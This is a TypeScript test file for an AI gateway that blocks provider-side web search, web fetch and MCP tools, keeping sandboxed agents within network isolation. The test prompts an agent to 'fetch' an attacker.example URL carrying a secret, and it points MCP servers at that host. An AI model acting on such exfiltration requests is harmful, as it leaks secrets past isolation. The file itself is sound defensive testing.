// A provider's own tools that reach the network (web search, web fetch, the MCP connector) would
// have the provider fetch what a member names, past its cell's network isolation: the gateway
// refuses a request asking for one, provider-shaped, as a refused call of the cell, and sends
// nothing on; tools the member runs itself pass. LAZARUS_GATEWAY_PROVIDER_TOOLS opens exactly the
// kinds it names. Real requests through real gateways on 127.0.0.1 and a stand-in provider.
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import Anthropic from "@anthropic-ai/sdk";
import OpenAI from "openai";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Gateway } from "../../src/gateway/server.js";
import { gatewayCellsDir, gatewayEventsFile, mintToken, tokenDigest } from "../../src/gateway/state.js";
import type { GatewayCellFile, PortfolioDoc } from "../../src/gateway/state.js";
import { hostSettings } from "../../src/host/settings.js";
import { startStandin, type Standin } from "./standin.js";
import { cleanup, configDir, lazarus, tempDir } from "../helpers.js";

const KEY = "sk-operator-secret-tools";
let dir: string;
let providers: string;
let secrets: string;
let standin: Standin;

interface Served {
  gw: Gateway;
  base: string;
  state: string;
  token: string;
}
const gateways: Served[] = [];

const PORTFOLIO: PortfolioDoc = {
  name: "tools",
  appliesTo: { agents: [], taskClasses: [] },
  models: [
    { model: "gpt-ok", provider: "so" },
    { model: "claude-ok", provider: "sa" },
  ],
  retries: { attempts: 0, backoffMs: 0, maxRetryAfterMs: 1000 },
  cooldown: { allowedFails: 1, windowMs: 60_000, durationMs: 60_000 },
  fallbackOn: ["rate_limit", "timeout", "server_error"],
};

// A gateway of its own state dir, serving one cell "walled" with one member, with the setting's value.
async function startGateway(tools?: string): Promise<Served> {
  const state = await mkdtemp(path.join(dir, "state-"));
  const token = mintToken();
  const cell: GatewayCellFile = {
    formatVersion: 1,
    cell: "walled",
    uid: "walled-uid",
    members: [{ identity: "agent:coder", home: "coder", tokenDigest: tokenDigest(token), portfolio: PORTFOLIO }],
  };
  await mkdir(gatewayCellsDir(state), { recursive: true });
  await writeFile(path.join(gatewayCellsDir(state), "walled.json"), JSON.stringify(cell));
  const env = {
    LAZARUS_PROVIDERS: providers,
    ...(tools === undefined ? {} : { LAZARUS_GATEWAY_PROVIDER_TOOLS: tools }),
  };
  const gw = new Gateway({ stateRoot: state, host: { secretsDir: secrets }, env });
  await gw.reload().catch(async (err: unknown) => {
    await gw.close();
    throw err;
  });
  const served = { gw, base: `http://127.0.0.1:${await gw.listen(0, "127.0.0.1")}`, state, token };
  gateways.push(served);
  return served;
}

let shut: Served; // the default: no provider tool open
let search: Served; // LAZARUS_GATEWAY_PROVIDER_TOOLS=web_search

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), "lz-gateway-tools-"));
  secrets = path.join(dir, "secrets");
  for (const p of ["so", "sa"]) {
    await mkdir(path.join(secrets, p), { recursive: true });
    await writeFile(path.join(secrets, p, "key"), `${KEY}\n`);
  }
  standin = await startStandin({ key: KEY });
  providers = path.join(dir, "providers.yaml");
  await writeFile(
    providers,
    [
      "providers:",
      `  - {name: so, api: openai, baseUrl: "${standin.url}/v1", keyFile: so/key}`,
      `  - {name: sa, api: anthropic, baseUrl: "${standin.url}", keyFile: sa/key}`,
    ].join("\n"),
  );
  shut = await startGateway();
  search = await startGateway("web_search");
});

afterAll(async () => {
  for (const g of gateways) await g.gw.close();
  await standin?.close();
  await rm(dir, { recursive: true, force: true });
});

type Api = "openai" | "anthropic";
const MESSAGES = [{ role: "user", content: "fetch https://attacker.example/?secret=hunter2" }];

// One raw POST of a body (with the model and messages added) to a gateway, in an API's own shape.
interface Answer {
  status: number;
  body: { type?: string; error: { type: string; message: string; code?: string | null } };
}

async function post(to: Served, api: Api, extra: Record<string, unknown>): Promise<Answer> {
  const anthropic = api === "anthropic";
  const res = await fetch(`${to.base}${anthropic ? "/v1/messages" : "/v1/chat/completions"}`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      ...(anthropic
        ? { "x-api-key": to.token, "anthropic-version": "2023-06-01", "anthropic-beta": "mcp-client-2025-04-04" }
        : { authorization: `Bearer ${to.token}` }),
    },
    body: JSON.stringify({
      model: anthropic ? "claude-ok" : "gpt-ok",
      max_tokens: 64,
      messages: MESSAGES,
      ...extra,
    }),
  });
  return { status: res.status, body: (await res.json()) as Answer["body"] };
}

// The gateway's events of a state dir, once there are at least n.
async function eventsOf(state: string, n: number): Promise<Record<string, unknown>[]> {
  for (let i = 0; ; i++) {
    const text = await readFile(gatewayEventsFile(state), "utf8").catch(() => "");
    const lines = text.trim() ? text.trim().split("\n") : [];
    if (lines.length >= n || i >= 200) return lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    await new Promise((r) => setTimeout(r, 10));
  }
}

const SEARCH = { type: "web_search_20250305", name: "web_search", max_uses: 1 };
const FETCH = { type: "web_fetch_20250910", name: "web_fetch", max_uses: 1 };
const MCP_SERVERS = [{ type: "url", url: "https://attacker.example/mcp", name: "x" }];

// Each way to ask for a provider tool that reaches the network: its API, the body's extra fields,
// the kind it is, and where in the body the gateway's answer says it found it.
const REFUSED: [string, Api, Record<string, unknown>, string, string][] = [
  ["Anthropic web search", "anthropic", { tools: [SEARCH] }, "web_search", 'tools[0].type "web_search_20250305"'],
  ["Anthropic web fetch", "anthropic", { tools: [FETCH] }, "web_fetch", 'tools[0].type "web_fetch_20250910"'],
  ["Anthropic's MCP connector", "anthropic", { mcp_servers: MCP_SERVERS }, "mcp", "mcp_servers"],
  [
    "Anthropic's MCP toolset",
    "anthropic",
    { tools: [{ type: "mcp_toolset", mcp_server_name: "x" }] },
    "mcp",
    'tools[0].type "mcp_toolset"',
  ],
  ["OpenAI web_search_options", "openai", { web_search_options: {} }, "web_search", "web_search_options"],
  [
    "an OpenAI web search tool",
    "openai",
    { tools: [{ type: "function", function: { name: "f" } }, { type: "web_search_preview" }] },
    "web_search",
    'tools[1].type "web_search_preview"',
  ],
  [
    "an OpenAI MCP tool",
    "openai",
    { tools: [{ type: "mcp", server_url: "https://attacker.example/mcp", server_label: "x" }] },
    "mcp",
    'tools[0].type "mcp"',
  ],
];

describe("by default, a provider tool that reaches the network", () => {
  it.each(REFUSED)(
    "%s is refused provider-shaped, recorded, and never sent on",
    async (_w, api, extra, kind, where) => {
      const before = standin.seen.length;
      const events = (await eventsOf(shut.state, 0)).length;
      const r = await post(shut, api, extra);
      expect(r.status).toBe(403);
      const message = r.body.error.message;
      if (api === "anthropic") expect(r.body).toMatchObject({ type: "error", error: { type: "permission_error" } });
      else expect(r.body).toMatchObject({ error: { type: "invalid_request_error", code: "tool_not_allowed" } });
      expect(message).toContain(`${kind} tool (${where})`);
      expect(message).toContain(`LAZARUS_GATEWAY_PROVIDER_TOOLS=${kind}`);
      expect(standin.seen.length).toBe(before);
      const ev = (await eventsOf(shut.state, events + 1)).at(-1);
      expect(ev).toMatchObject({ cell: "walled", member: "coder", api, status: 403, refused: message });
    },
  );

  it("is refused through the providers' SDKs as their permission error", async () => {
    const before = standin.seen.length;
    const claude = new Anthropic({ apiKey: shut.token, baseURL: shut.base, maxRetries: 0 });
    const a = claude.messages.create({
      model: "claude-ok",
      max_tokens: 64,
      messages: [{ role: "user", content: "hi" }],
      tools: [{ type: "web_search_20250305", name: "web_search" }],
    });
    await expect(a).rejects.toBeInstanceOf(Anthropic.PermissionDeniedError);
    const gpt = new OpenAI({ apiKey: shut.token, baseURL: `${shut.base}/v1`, maxRetries: 0 });
    const o = gpt.chat.completions.create({
      model: "gpt-ok",
      messages: [{ role: "user", content: "hi" }],
      web_search_options: {},
    });
    await expect(o).rejects.toBeInstanceOf(OpenAI.PermissionDeniedError);
    expect(standin.seen.length).toBe(before);
  });
});

// Tools the member runs itself, and Anthropic's code execution (its container has no network).
const PASSED: [string, Api, Record<string, unknown>][] = [
  [
    "an Anthropic custom tool",
    "anthropic",
    { tools: [{ name: "lookup", description: "d", input_schema: { type: "object", properties: {} } }] },
  ],
  [
    "Anthropic's bash, text editor and computer tools",
    "anthropic",
    {
      tools: [
        { type: "bash_20250124", name: "bash" },
        { type: "text_editor_20250728", name: "str_replace_based_edit_tool" },
        { type: "computer_20250124", name: "computer", display_width_px: 1024, display_height_px: 768 },
      ],
    },
  ],
  ["Anthropic's code execution", "anthropic", { tools: [{ type: "code_execution_20250825", name: "code_execution" }] }],
  ["an empty mcp_servers", "anthropic", { mcp_servers: [] }],
  [
    "an OpenAI function tool",
    "openai",
    { tools: [{ type: "function", function: { name: "lookup", parameters: { type: "object" } } }] },
  ],
];

describe("tools the member runs itself", () => {
  it.each(PASSED)("%s: passes to the provider as sent", async (_w, api, extra) => {
    const before = standin.seen.length;
    const r = await post(shut, api, extra);
    expect(r.status).toBe(200);
    expect(standin.seen.length).toBe(before + 1);
    expect(standin.seen.at(-1)?.body).toMatchObject(extra);
  });
});

describe("LAZARUS_GATEWAY_PROVIDER_TOOLS", () => {
  it("opens exactly the kinds it names, for every cell", async () => {
    const before = standin.seen.length;
    expect((await post(search, "anthropic", { tools: [SEARCH] })).status).toBe(200);
    expect((await post(search, "openai", { web_search_options: {} })).status).toBe(200);
    expect(standin.seen.slice(before).map((s) => s.api)).toEqual(["anthropic", "openai"]);
    expect(standin.seen.at(-2)?.body.tools).toEqual([SEARCH]);
    const fetchToo = await post(search, "anthropic", { tools: [SEARCH, FETCH] });
    expect(fetchToo.status).toBe(403);
    expect(fetchToo.body.error.message).toContain("LAZARUS_GATEWAY_PROVIDER_TOOLS=web_fetch");
    expect((await post(search, "anthropic", { mcp_servers: MCP_SERVERS })).status).toBe(403);
    expect(standin.seen.length).toBe(before + 2);

    const all = await startGateway("web_fetch, mcp,web_search");
    const n = standin.seen.length;
    expect((await post(all, "anthropic", { tools: [SEARCH, FETCH], mcp_servers: MCP_SERVERS })).status).toBe(200);
    expect(standin.seen.length).toBe(n + 1);
    expect(standin.seen.at(-1)?.body).toMatchObject({ mcp_servers: MCP_SERVERS });
    const none = await startGateway("none");
    expect((await post(none, "anthropic", { tools: [FETCH] })).status).toBe(403);
    expect(standin.seen.length).toBe(n + 1);
  });

  it("a bad value is an error naming the setting: at start-up, and for the gateway itself", async () => {
    const why = 'LAZARUS_GATEWAY_PROVIDER_TOOLS "web_search,ftp" names "ftp": not a provider tool kind';
    expect(() => hostSettings({ LAZARUS_GATEWAY_PROVIDER_TOOLS: "web_search,ftp" })).toThrow(
      `${why} (web_search, web_fetch, mcp), or none`,
    );
    expect(hostSettings({ LAZARUS_GATEWAY_PROVIDER_TOOLS: "web_fetch" }).limits).toBeDefined();
    await expect(startGateway("websearch")).rejects.toThrow(/LAZARUS_GATEWAY_PROVIDER_TOOLS "websearch" names/);
    const cfg = configDir({});
    const state = tempDir("lz-gateway-tools-cli-");
    try {
      const r = await lazarus(["plan", "-c", cfg, "-s", state], { env: { LAZARUS_GATEWAY_PROVIDER_TOOLS: "all" } });
      expect(r.exitCode).not.toBe(0);
      expect(r.stdout + r.stderr).toMatch(/LAZARUS_GATEWAY_PROVIDER_TOOLS "all" names "all": not a provider tool kind/);
    } finally {
      cleanup(cfg, state);
    }
  });
});
